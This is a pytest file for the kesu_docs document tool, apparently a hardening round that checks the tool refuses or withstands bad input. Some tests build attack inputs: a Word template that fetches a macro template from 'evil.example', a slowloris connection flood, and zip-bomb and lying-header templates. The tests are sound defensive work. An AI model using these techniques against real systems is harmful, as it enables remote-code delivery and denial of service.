"""Hostile and careless input, the twenty-eighth round (issue 10, bad input): what round 27 left
(look-alike digits in a month, a NUL through the Python API, a refused template numbering forms,
a local attached template dropped unsaid, PostgreSQL going away mid-batch) and the round's own
attacks. Real files, real processes, real servers; each test fails without its mend."""

from __future__ import annotations

import contextlib
import os
import time

from helpers import complaint, kesu

from kesu_docs.register import Register

_ARABIC = str.maketrans("0123456789-", "٠١٢٣٤٥٦٧٨٩-")
_FULL = str.maketrans("0123456789-", "０１２３４５６７８９－")


# ------------------------------------------------------------------ look-alike digits in a month
def test_kesu_report_monthlys_month_takes_look_alike_digits(tmp_path):
    db = tmp_path / "k.db"
    Register.open(db, create=True).close()
    for month in ("2026-11".translate(_FULL), "2026-11".translate(_ARABIC), "２０２６-１１"):
        out = tmp_path / "out" / "m.xlsx"
        done = kesu("report", "monthly", month, "-o", out, "--db", db, "--lang", "en")
        assert done.exit_code == 0, done.output
        assert "No case closed in 2026-11:" in done.output, done.output
        assert out.exists()


def test_the_web_pages_month_filters_take_look_alike_digits(tmp_path):
    from kesu_docs.web.app import WebConfig, create_app

    db = tmp_path / "k.db"
    with Register.open(db, create=True) as reg:
        doc = reg.issue(complaint())
        month = f"{doc.document_date:%Y-%m}"
        other = f"{doc.document_date.year + 1:04d}-01"
        app = create_app(WebConfig(db=str(db), work=tmp_path / "work"), register=reg)
        client = app.test_client()

        def shown(**query: str) -> int:
            page = client.get("/register", query_string=query)
            assert page.status_code == 200
            return page.get_data(as_text=True).count(f"/case/complaint/{doc.number}")

        assert shown(month=month) > shown(month=other)  # the filter filters
        for fold in (_FULL, _ARABIC):
            assert shown(month=month.translate(fold)) == shown(month=month)
            assert shown(month=other.translate(fold)) == shown(month=other)
            assert shown(year=month[:4].translate(fold), mon=month[5:]) == shown(month=month)
            xlsx = client.get(f"/manager/monthly/{month.translate(fold)}.xlsx")
            assert xlsx.status_code == 200 and xlsx.data[:2] == b"PK"
        app.extensions["kesu"]["batches"].stop(5)


# ------------------------------------------------------------------ a NUL through the Python API
def test_a_nul_in_the_output_folder_the_documents_path_or_the_register_url_is_a_kesu_error(tmp_path):
    """Before: Python's ``ValueError: embedded null byte`` (no command line passes a NUL)."""
    import pytest

    import kesu_docs
    from kesu_docs.problems import KesuError
    from kesu_docs.register import RegisterError

    for url in (str(tmp_path / "k\0.db"), "postgresql://u@localhost/k\0b"):
        with pytest.raises(RegisterError) as raised:
            kesu_docs.open_register(url)
        assert "NUL" in raised.value.message("en") and "NUL 字符" in raised.value.message("zh")
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    import json

    (inbox / "c.json").write_text(json.dumps(complaint().model_dump(mode="json")), encoding="utf-8")
    with kesu_docs.open_register(tmp_path / "k.db") as reg:
        with pytest.raises(KesuError) as raised:
            kesu_docs.file_batch([inbox], f"{tmp_path}/out\0x", register=reg)
        assert "NUL" in raised.value.message("en") and "\\0" in raised.value.message("zh")
        assert reg.documents() == []  # no number issued
    with pytest.raises(KesuError) as raised:
        kesu_docs.render_document(complaint(), f"{tmp_path}/d\0.docx")
    assert "output" in raised.value.message("en")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["inbox", "k.db"]


# ------------------------------------------------------------------ a refused template numbers nothing
def test_a_refused_template_numbers_no_form_and_the_next_run_starts_at_the_first_number(tmp_path):
    """Before: each form of a batch whose template is refused (Word would fetch from a server)
    was numbered, then failed: 001–003 issued for nothing, the next run began at 004. Now the
    template is looked at before any number is issued; other kinds are numbered as before."""
    from hostile import complaint as sample_record
    from hostile import write_json
    from test_attack27 import _RELS, _kesu_render, _template_with

    bad = _template_with(
        tmp_path / "bad",
        {
            "word/_rels/settings.xml.rels": f'<Relationship Id="rId1" Type="{_RELS}attachedTemplate" '
            'Target="http://evil.example/t.dotm" TargetMode="External"/>'
        },
    )
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    for i in range(3):
        write_json(inbox / f"c{i}.json", sample_record(customer=f"Customer {i}"))
    db = tmp_path / "k.db"
    done = _kesu_render(tmp_path, inbox, tmp_path / "out", db, "--lang", "en", KESU_TEMPLATES=str(bad))
    said = " ".join(done.stdout.split())
    assert done.returncode == 1 and "fetches from outside the file" in said, done.stdout + done.stderr
    with Register.open(db) as reg:
        assert reg.documents() == []  # no number issued for nothing
    assert not list((tmp_path / "out").glob("*.docx"))
    done = _kesu_render(tmp_path, inbox, tmp_path / "out", db)
    assert done.returncode == 0, done.stdout + done.stderr
    with Register.open(db) as reg:
        assert sorted(d.number[-3:] for d in reg.documents()) == ["001", "002", "003"]


# ------------------------------------------------------------------ a local attached template said once
def test_a_local_attached_template_dropped_from_the_copies_is_said_once_naming_it(tmp_path):
    """Before: Word's attached ``Company.dotm`` on the clerk's disk was dropped from every copy
    unsaid. Now the batch says it once (zh / en), naming the template and what was attached."""
    from hostile import complaint as sample_record
    from hostile import write_json
    from test_attack27 import _kesu_render
    from test_template_refusal27 import locally_attached

    folder = locally_attached(tmp_path).parent
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    for i in range(3):
        write_json(inbox / f"c{i}.json", sample_record(customer=f"Customer {i}"))
    for lang, words in (("en", "are made without it"), ("zh", "已去掉这一附加")):
        out = tmp_path / f"out-{lang}"
        done = _kesu_render(
            tmp_path,
            inbox,
            out,
            tmp_path / f"{lang}.db",
            "--lang",
            lang,
            KESU_TEMPLATES=str(folder),
        )
        said = " ".join((done.stdout + done.stderr).split())
        assert done.returncode == 0, said
        assert said.count(words) == 1 and "Company.dotm" in said and str(folder / "complaint.docx") in said, (
            said
        )
        assert len(list(out.glob("*.docx"))) == 3


# ------------------------------------------------------------------ PostgreSQL going away mid-batch
def test_a_postgresql_server_stopped_mid_batch_and_started_again_loses_nothing(tmp_path, pg_server, pg_url):
    """The register's server stopped (``pg_ctl stop -m fast``) while ``kesu render`` files 600
    forms, started again once the command has stopped: what was numbered is kept and said, nothing half
    written, and the same command run again finishes the batch: every form numbered once,
    gapless, each document's file written."""
    import os
    import re
    import signal
    import subprocess
    import sys
    import time

    import psycopg
    from helpers import clean_environment
    from hostile import complaint as sample_record
    from hostile import write_json

    total = 600
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    for i in range(total):
        write_json(inbox / f"c{i:03d}.json", sample_record(customer=f"Customer {i}"))
    out = tmp_path / "out"
    command = [sys.executable, "-m", "kesu_docs", "render", str(inbox), "-o", str(out), "--db", pg_url]
    env = clean_environment(KESU_LANG="en")
    Register.open(pg_url, create=True).close()

    def numbered() -> int:
        try:
            with psycopg.connect(pg_url, connect_timeout=5) as conn:
                return conn.execute("SELECT count(*) FROM documents").fetchone()[0]
        except psycopg.OperationalError:
            return -1

    def in_a_transaction() -> bool:  # the command's connection in the middle of a transaction
        try:
            with psycopg.connect(pg_url, connect_timeout=5) as conn:
                return (
                    conn.execute(
                        "SELECT count(*) FROM pg_stat_activity WHERE pid <> pg_backend_pid()"
                        " AND datname = current_database() AND backend_type = 'client backend'"
                        " AND state IN ('active', 'idle in transaction')"
                    ).fetchone()[0]
                    > 0
                )
        except psycopg.OperationalError:
            return False

    batch = subprocess.Popen(
        command, cwd=tmp_path, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )
    try:
        # fixb28: the command held (SIGSTOP) after its first chunk was numbered and in the middle
        # of a transaction, so the server goes away mid-batch on any machine. Before, a batch that
        # ended first (or was between two transactions: it then simply goes on with a new
        # connection) skipped every assertion of the stop.
        deadline, held = time.monotonic() + 120, False
        while not held and time.monotonic() < deadline and batch.poll() is None:
            if numbered() >= 1 and in_a_transaction():
                os.kill(batch.pid, signal.SIGSTOP)
                held = in_a_transaction()  # (still in it once stopped)
                if not held:
                    os.kill(batch.pid, signal.SIGCONT)
        assert held, "the command was never held in a transaction after its first chunk"
        # robust29: the server stays away until the command has ended — one back before it asks
        # what became of its transaction lets the batch go on (test_robust29's commit cut)
        try:
            pg_server.stop()
        finally:
            os.kill(batch.pid, signal.SIGCONT)
        try:
            stdout, stderr = batch.communicate(timeout=300)
        finally:
            pg_server.start()
    finally:
        if batch.poll() is None:
            batch.kill()
    said = " ".join((stdout + stderr).split())
    assert "Traceback" not in said, said
    kept = numbered()
    assert 0 < kept < total, said  # stopped mid-batch: what was numbered and how to finish are said
    assert batch.returncode == 2 and "run the same command again" in said, said
    printed = re.search(r"(\d+) documents numbered", said)
    # a commit whose reply the stop lost is numbered in the register yet not counted as done
    assert printed and int(printed.group(1)) <= kept, said
    assert not list(out.glob("*.part")) and not list(out.glob(".*.part"))
    again = subprocess.run(command, cwd=tmp_path, env=env, capture_output=True, text=True, timeout=300)
    assert again.returncode == 0, again.stdout + again.stderr
    with Register.open(pg_url) as reg:
        numbers = sorted(d.number for d in reg.documents())
    assert len(numbers) == total == len(set(numbers))
    assert [int(n[-3:]) for n in numbers] == list(range(1, total + 1))  # gapless, none twice
    assert len(list(out.glob("*.docx"))) == total


# ------------------------------------------------------------------ the web page: slow clients
def test_one_address_holding_many_slow_connections_does_not_keep_the_page_from_others(tmp_path):
    """Before: 150 connections from one PC, each sending its request's head a byte at a time
    (slowloris), filled waitress's 100 and the page answered no one else (timed out after
    10 s). Now one address holds 32 at most (its new ones closed as they come): another PC
    gets the page at once."""
    import socket
    import urllib.request

    from web_helpers import running_server

    with running_server(tmp_path, "--threads", "1") as server:
        port = int(server.url.rsplit(":", 1)[1])
        held = []
        try:
            for _ in range(150):
                conn = socket.socket()
                conn.bind(("127.0.0.2", 0))  # another PC: an address of the loopback range
                conn.settimeout(5)
                conn.connect(("127.0.0.1", port))
                conn.sendall(b"GET /register HTTP/1.1\r\nHost: kesu\r\nX-Slow: ")
                held.append(conn)
            for _ in range(3):
                for conn in held:
                    with contextlib.suppress(OSError):
                        conn.sendall(b"a")
                time.sleep(0.3)
            with urllib.request.urlopen(server.url + "/register", timeout=10) as page:
                assert page.status == 200
        finally:
            for conn in held:
                conn.close()
        assert "127.0.0.2 holds 32 connections" in server.log.read_text(encoding="utf-8")


# ------------------------------------------------------------------ templates too large to be a form's
def _with_document(tmp_path, grow) -> object:
    """The shipped templates copied, the complaint's document.xml given ``grow(xml)``."""
    import zipfile

    from test_template_refusal27 import _with_parts

    from kesu_docs.render import default_template_dir

    xml = zipfile.ZipFile(default_template_dir() / "complaint.docx").read("word/document.xml")
    at = xml.index(b"</w:body>")
    return _with_parts(tmp_path, {"word/document.xml": xml[:at] + grow() + xml[at:]}).parent


def _render_one(tmp_path, templates, lang="en"):
    from hostile import complaint as sample_record
    from hostile import write_json
    from test_attack27 import _kesu_render

    inbox = tmp_path / "inbox"
    inbox.mkdir(exist_ok=True)
    write_json(inbox / "c.json", sample_record())
    db = tmp_path / "k.db"
    done = _kesu_render(tmp_path, inbox, tmp_path / "out", db, "--lang", lang, KESU_TEMPLATES=str(templates))
    with Register.open(db) as reg:
        return done, " ".join((done.stdout + done.stderr).split()), reg.documents()


def test_a_template_that_inflates_to_300_mb_is_refused_at_once_and_numbers_nothing(tmp_path):
    """Before: a 320 KB template whose document.xml inflates to 300 MB (a zip bomb) numbered the
    form, then held its render 40 s and failed "MemoryError" (under a 4 GB limit; without one
    it took the memory). Now it is refused before any number, naming the bound."""
    templates = _with_document(tmp_path, lambda: b"<!--" + b"A" * (300 * 1024 * 1024) + b"-->")
    started = time.monotonic()
    done, said, documents = _render_one(tmp_path, templates)
    assert done.returncode == 1 and "no form's template" in said and "over 200 MB" in said, said
    assert documents == [] and time.monotonic() - started < 30


def test_a_template_with_a_million_tags_is_refused_at_once(tmp_path):
    """Before: 10^6 ``{{ customer }}`` in one part were compiled for two minutes, then
    MemoryError; now refused (zh / en) before any number."""
    templates = _with_document(
        tmp_path, lambda: b"<w:p><w:r><w:t>" + b"{{ customer }}" * 1_000_000 + b"</w:t></w:r></w:p>"
    )
    done, said, documents = _render_one(tmp_path, templates, "zh")
    assert done.returncode == 1 and "1,000,061 个标记" in said, said
    assert documents == []


def test_a_template_part_inflating_past_what_its_zip_entry_says_is_refused(tmp_path):
    """A zip entry that says 1 KB and inflates to 50 MB (the header lies): zlib inflated it
    whole. Now no more than it says is inflated, and the template is refused."""
    import struct
    import zipfile

    templates = _with_document(tmp_path, lambda: b"<!--" + b"A" * (50 * 1024 * 1024) + b"-->")
    path = templates / "complaint.docx"
    data = bytearray(path.read_bytes())
    info = zipfile.ZipFile(path).getinfo("word/document.xml")
    at = -1
    while True:  # the central directory's entry of document.xml: its uncompressed size made 1,024
        at = data.index(b"PK\x01\x02", at + 1)
        (name_length,) = struct.unpack_from("<H", data, at + 28)
        if data[at + 46 : at + 46 + name_length] == b"word/document.xml":
            break
    struct.pack_into("<I", data, at + 24, 1024)
    struct.pack_into("<I", data, info.header_offset + 22, 1024)
    path.write_bytes(bytes(data))
    done, said, documents = _render_one(tmp_path, templates)
    assert done.returncode == 1 and "holds more than the 1,024 bytes" in said, said
    assert documents == []


# ------------------------------------------------------------------ a register that lost its -wal file
def lost_beta(tmp_path):
    """Alpha and Beta filed (001, 002) into ``out``; ``copied.db`` the register copied without
    its ``-wal`` file (it lost Beta); Beta's source now Gamma's. The folder and Beta's DOCX."""
    import shutil
    import sqlite3

    from hostile import complaint as sample_record
    from hostile import write_json
    from test_attack27 import _kesu_render

    db, out = tmp_path / "k.db", tmp_path / "out"
    for name in ("alpha", "beta"):
        (tmp_path / name).mkdir()
        write_json(tmp_path / name / f"{name}.json", sample_record(customer=name.title()))
    assert _kesu_render(tmp_path, tmp_path / "alpha", out, db).returncode == 0
    reader = sqlite3.connect(db)  # a reader open: Beta's number stays in the -wal file
    reader.execute("BEGIN")
    reader.execute("SELECT count(*) FROM documents").fetchone()
    assert _kesu_render(tmp_path, tmp_path / "beta", out, db).returncode == 0
    shutil.copy(db, tmp_path / "copied.db")  # copied without its -wal file
    reader.close()
    [beta] = [p for p in out.glob("*.docx") if "002" in p.name]
    write_json(tmp_path / "beta" / "beta.json", sample_record(customer="Gamma"))
    return out, beta


def test_a_register_that_lost_its_latest_records_never_overwrites_a_document_under_a_reissued_number(
    tmp_path,
):
    """A register copied without its ``-wal`` file (or the file deleted) forgets the last
    documents numbered; before, the next form was issued the same number and its file
    silently replaced the controlled document already in the folder. Now the document
    is refused, the file kept, and the clerk told the register lost its records (zh / en)."""
    from test_attack27 import _kesu_render

    out, beta = lost_beta(tmp_path)
    kept = beta.read_bytes()
    written = beta.stat().st_mtime - 60  # (its records lost later: the file older than any rerun)
    os.utime(beta, (written, written))
    # (robust31: refused before the number is issued again, the file found in the folder)
    for lang, words in (("en", "lost its latest records"), ("zh", "登记簿丢失了最近的记录")):
        done = _kesu_render(tmp_path, tmp_path / "beta", out, tmp_path / "copied.db", "--lang", lang)
        said = " ".join((done.stdout + done.stderr).split())
        assert done.returncode == 2 and words in said and beta.name in said, said
        assert beta.read_bytes() == kept  # the controlled document is not replaced
